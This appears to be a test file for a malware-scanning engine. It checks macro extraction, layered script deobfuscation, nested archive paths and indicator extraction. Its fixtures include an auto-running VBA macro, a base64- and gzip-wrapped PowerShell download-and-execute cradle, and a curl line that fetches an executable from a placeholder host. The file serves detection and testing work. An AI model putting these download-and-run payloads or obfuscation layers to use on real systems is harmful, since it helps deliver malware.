import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { DEFAULT_ENGINE_LIMITS, type StaticReport } from '../../../lib/engines/engine.ts';
import { analyseFile } from '../../../lib/engines/static/analyse-file.ts';
import { HOSTILE_DOCUMENTS } from '../../hostile/static/documents.ts';
import { bytesOf } from '../../hostile/static/sample.ts';
import { vbaProject, wordDocument } from '../office-fixture.ts';
import { zipOf } from '../zip-fixture.ts';

async function analyse(content: string | Uint8Array, untrustedName: string): Promise<StaticReport> {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  const report = await analyseFile({ bytes, untrustedName, password: null }, DEFAULT_ENGINE_LIMITS);
  if (report.outcome === 'failed') throw new Error(report.failure.message);
  return report;
}

describe('what is taken out of a file', () => {
  test('is macro source, as it was written', async () => {
    const source = 'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub';
    const { extracted = [] } = await analyse(
      wordDocument({ parts: { 'word/vbaProject.bin': vbaProject(source) } }),
      'a.docm',
    );
    expect(extracted.map(({ kind, untrustedName, level }) => ({ kind, untrustedName, level }))).toEqual([
      { kind: 'deobfuscated_code', untrustedName: 'module1.bas', level: 'malicious' },
    ]);
    expect(Buffer.from(extracted[0]?.bytes ?? []).toString('latin1')).toContain(source);
  });

  test('is every layer of a script, with the innermost one', async () => {
    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/a')";
    const middle = `$x = '${gzipSync(inner).toString('base64')}'; iex $x`;
    const { extracted = [], findings } = await analyse(
      `powershell -enc ${Buffer.from(middle, 'utf16le').toString('base64')}`,
      'a.bat',
    );
    expect(extracted.map(({ bytes }) => Buffer.from(bytes).toString('latin1'))).toEqual([middle, inner]);
    expect(findings.map(({ id }) => id)).toContain('code-downloads-and-runs');
  });

  test('is named with the path to it, at any depth', async () => {
    const archive = HOSTILE_DOCUMENTS.find(({ technique }) => technique === 'archive in an archive in an archive');
    if (archive === undefined) throw new Error('the sample is missing');
    const { findings } = await analyse(bytesOf(archive), archive.name);
    const macro = findings.find(({ id }) => id === 'macro-acts-by-itself');
    expect(macro?.where).toMatch(/^a\.zip > b\.zip > c\.docm/);
  });

  test('does not make one attack of two harmless halves', async () => {
    const files = {
      'get.ps1': 'Invoke-WebRequest https://www.example.org/list.csv -OutFile list.csv',
      'start.vbs': 'CreateObject("WScript.Shell").Run "notepad"',
    };
    const { level, findings } = await analyse(zipOf(files), 'tools.zip');
    expect(level).toBe('suspicious');
    expect(findings.map(({ id }) => id)).not.toContain('code-downloads-and-runs');
  });

  test('ends with the budget, and the report says so', async () => {
    let bytes = zipOf({ 'a.txt': 'x' });
    for (let level = 0; level < 12; level++) bytes = zipOf({ [`${level}.zip`]: { content: bytes } });
    const { findings, level } = await analyse(bytes, 'deep.zip');
    expect(level).toBe('unknown');
    expect((await analyse(bytes, 'deep.zip')).extracted?.length).toBeLessThan(12);
    expect(findings.every(({ level: one }) => one === 'benign')).toBe(true);
  });
});

describe('values to look for elsewhere', () => {
  test('are found in the file and in what was taken out of it, each once', async () => {
    const inner = 'curl http://files.example.invalid/a -o %TEMP%\\a.exe';
    const text = `rem http://files.example.invalid/a 203.0.113.7 someone@mail.example.invalid\r\npowershell -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;
    const { iocs = [] } = await analyse(text, 'a.bat');
    expect(iocs).toContainEqual({ type: 'url', value: 'http://files.example.invalid/a' });
    expect(iocs).toContainEqual({ type: 'domain', value: 'files.example.invalid' });
    expect(iocs).toContainEqual({ type: 'ip', value: '203.0.113.7' });
    expect(iocs).toContainEqual({ type: 'email', value: 'someone@mail.example.invalid' });
    expect(iocs.some(({ type, value }) => type === 'path' && value.includes('a.exe'))).toBe(true);
    expect(new Set(iocs.map(({ type, value }) => `${type} ${value}`)).size).toBe(iocs.length);
  });

  test('of document formats are left out', async () => {
    const { iocs = [] } = await analyse('<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', 'a.svg');
    expect(iocs).toEqual([]);
  });
});
